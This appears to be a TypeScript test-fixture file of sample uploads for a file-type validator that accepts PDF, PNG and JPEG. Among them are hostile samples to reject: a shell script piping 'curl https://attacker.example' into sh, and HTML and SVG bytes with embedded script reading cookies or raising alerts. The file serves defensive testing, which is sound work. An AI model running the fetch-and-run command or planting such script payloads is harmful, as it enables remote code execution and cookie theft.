import { PDFDocument, StandardFonts } from 'pdf-lib';

/** A real one-page PDF (pdf-lib), as a scanned or filled form would be. */
export async function pdfBytes(text = 'Monthly Fieldwork Verification Form'): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([595, 842]);
  page.drawText(text, {
    x: 50,
    y: 780,
    size: 14,
    font: await pdf.embedFont(StandardFonts.Helvetica),
  });
  return Buffer.from(await pdf.save());
}

/** A valid 1×1 PNG. */
export const PNG_BYTES = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** A valid 1×1 JPEG. */
export const JPEG_BYTES = Buffer.from(
  '/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=',
  'base64',
);

/** A shell script: what a `.pdf` name must not smuggle in. */
export const SCRIPT_BYTES = Buffer.from('#!/bin/sh\ncurl https://attacker.example | sh\n');

/** An HTML page with script. */
export const HTML_BYTES = Buffer.from(
  '<!doctype html><html><script>alert(document.cookie)</script>',
);

/** An SVG that runs script when opened. */
export const SVG_BYTES = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
);

/** A GIF: a real image, but not one of the kinds accepted. */
export const GIF_BYTES = Buffer.from(
  'R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==',
  'base64',
);

/** `size` bytes that start as a PDF: an oversize upload that passes the content check. */
export function pdfOfSize(size: number): Buffer {
  const bytes = Buffer.alloc(size, 0x20);
  Buffer.from('%PDF-1.7\n').copy(bytes);
  return bytes;
}
